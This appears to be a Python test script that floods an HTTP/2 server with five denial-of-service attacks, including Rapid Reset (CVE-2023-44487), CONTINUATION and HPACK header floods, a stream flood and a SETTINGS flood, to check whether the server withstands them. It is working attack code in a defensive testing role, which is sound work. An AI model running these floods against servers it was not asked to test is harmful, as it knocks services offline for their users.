"""Floods the HTTP/2 of the cloud as attackers do, with hyperframe and hpack, which share no code
with ours.

    floods.py HOST:PORT

Prints how each of them ended that ended in another way than it should, and `good` in the end.
"""
import socket
import sys

from hpack import Encoder
from hyperframe import frame as wire

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 30
# RFC 9113 §7
REFUSED_STREAM, ENHANCE_YOUR_CALM = 0x7, 0xB


class Connection:
    def __init__(self, address):
        host, port = address.split(":")
        self.socket = socket.create_connection((host, int(port)), PATIENCE)
        self.encoder = Encoder()
        self.rest = b""
        self.send(PREFACE, wire.SettingsFrame(0).serialize())

    def send(self, *parts):
        try:
            for part in parts:
                self.socket.sendall(part)
        except OSError:
            return False
        return True

    def heads(self, path="/healthz", more=()):
        fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "d1")]
        return self.encoder.encode(fields + list(more))

    def frames(self):
        """What the server says, until it is gone."""
        while True:
            while len(self.rest) >= 9:
                heard, length = wire.Frame.parse_frame_header(memoryview(self.rest[:9]))
                if len(self.rest) < 9 + length:
                    break
                heard.parse_body(memoryview(self.rest[9 : 9 + length]))
                self.rest = self.rest[9 + length :]
                yield heard
            try:
                more = self.socket.recv(65536)
            except ConnectionResetError:
                return
            if not more:
                return
            self.rest += more


def asks(stream, block, ends=True, whole=True):
    frame = wire.HeadersFrame(stream, data=block)
    if whole:
        frame.flags.add("END_HEADERS")
    if ends:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def goes(connection):
    """The code with which the server goes away."""
    for heard in connection.frames():
        if isinstance(heard, wire.GoAwayFrame):
            return heard.error_code
    return None


def rapid_reset(address):
    """CVE-2023-44487: ask, and take it back."""
    connection = Connection(address)
    for number in range(10_000):
        stream = 2 * number + 1
        taken_back = wire.RstStreamFrame(stream, error_code=8).serialize()
        if not connection.send(asks(stream, connection.heads()) + taken_back):
            break
    return goes(connection) == ENHANCE_YOUR_CALM


def too_many_at_once(address):
    """A thousand calls whose bodies never come: no more than a hundred are looked at."""
    connection = Connection(address)
    for number in range(1_000):
        block = connection.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":authority", "d1"),
            (":path", "/api/v1/auth/token"),
            ("content-type", "application/x-www-form-urlencoded"),
        ])
        connection.send(asks(2 * number + 1, block, ends=False))
    refused = set()
    for heard in connection.frames():
        if isinstance(heard, wire.RstStreamFrame) and heard.error_code == REFUSED_STREAM:
            refused.add(heard.stream_id)
        if isinstance(heard, wire.GoAwayFrame) or len(refused) == 900:
            break
    return len(refused) == 900 or heard.error_code == ENHANCE_YOUR_CALM


def endless_head(address):
    """CVE-2024-27316 and its like: a head without an end."""
    connection = Connection(address)
    connection.send(asks(1, connection.heads(), whole=False))
    block = connection.encoder.encode([("x", "y" * 1_000)], huffman=False)
    for _ in range(100_000):
        if not connection.send(wire.ContinuationFrame(1, data=block).serialize()):
            return True
    return goes(connection) is not None


def bomb(address):
    """A head that is small on the wire and large in memory."""
    connection = Connection(address)
    large = ("x-large", "y" * 3_000)
    # The second time it is one byte.
    block = connection.heads(more=[large] * 4_000)
    connection.send(asks(1, block))
    for heard in connection.frames():
        if isinstance(heard, (wire.GoAwayFrame, wire.RstStreamFrame)):
            return True
        if isinstance(heard, wire.HeadersFrame):
            # 431, or whatever else says no, in the first byte that is not of a table.
            return b"431" in heard.data or b"\x08\x03\x34\x33\x31" in heard.data
    return True


def unending_settings(address):
    """Settings that each want an answer, and nobody who takes the answers."""
    connection = Connection(address)
    connection.socket.settimeout(5)
    settings = wire.SettingsFrame(0).serialize() * 1_000
    sent = 0
    while sent < 3_000 and connection.send(settings):
        sent += 1
    # Either it is over, or it is not read any faster than the answers are taken.
    return sent < 3_000


ATTACKS = [rapid_reset, too_many_at_once, endless_head, bomb, unending_settings]

held = True
for attack in ATTACKS:
    try:
        ended = attack(sys.argv[1])
    except Exception as error:
        ended = repr(error)
    if ended is not True:
        held = False
        print(f"{attack.__name__}: {ended}")
if held:
    print("good")
